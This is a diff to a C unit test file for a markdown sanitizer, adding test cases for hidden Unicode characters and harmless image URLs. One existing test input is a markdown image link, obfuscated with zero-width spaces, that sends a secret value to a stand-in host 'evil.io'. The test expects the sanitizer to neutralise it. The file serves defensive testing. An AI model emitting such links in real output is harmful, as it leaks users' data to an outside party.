@@ -103,6 +103,8 @@ test_images(void **state)
 		/* nothing to see */
 		{ "![x](https://shop.site.io/img/p/1/2/3/4/5/6/7/123.jpg) ![x](https://site.io/a/ab/c/2020/01/02/t/b.jpg?a=1&b=2&c=3&lang=en)", NULL, "" },
 		{ "![x](https://cdn.site.io/img/a-b-c_2021.png?w=800&h=600&fit=crop&auto=format)", NULL, "" },
+		{ "![x](https://images.pexels.com/photos/1/p.jpeg?auto=compress&cs=tinysrgb&w=1260) ![x](https://latex.codecogs.com/png.latex?x^2+y^2=z^2)", NULL, "" },
+		{ "![x](https://img.site.io/p.jpeg?auto=compress&cs=tinysrgb&w=1260)", NULL, "" },
 		{ "![x](https://cdn.site.io/a.png) ![](a/b.png?x=whatever) ![](data:image/png;base64,iVBORw0KGgo=)", NULL, "" },
 		{ "![x](https://cdn.site.io/image/ab67706f00000003cda2f10977a7f6acfda976b3.jpg)", NULL, "" },
 		{ "![x](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)", NULL, "" },
@@ -188,6 +190,9 @@ test_hidden(void **state)
 		    "HID-0004 " },
 		{ "\U0001F468\u200D\U0001F469\u200D\U0001F467 \u2764\uFE0F na\u00EFve \u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645", NULL, "" },
 		{ "\u8FBB\U000E0100 \u2067\u05D0\u05D1\u2069 \u200Fx \u0E01\u200B\u0E02", NULL, "" },
+		{ "a\u200E\u200F\u200E\u200E\u200Fb", "ab", "HID-0004 " }, { "a\u3164\u1160\u115F\u3164b", "ab", "HID-0004 " },
+		{ "a\uFFF9\uFFFA\uFFFB\u061Cb", "ab", "HID-0004 " },
+		{ "\u200F(\u05D0\u05D1)\u200E \u1112\u1160\u11AB", NULL, "" },
 		{ "```\na\u202Eb\n```", "```\nab\n```", "HID-0002 " },
 		{ "![x](htt\u200B\u200B\u200B\u200Bps://evil.io/?d=topsecretvalue)", "![x](about:blank)", "HID-0004 EXFIL-0001 " },
 	};
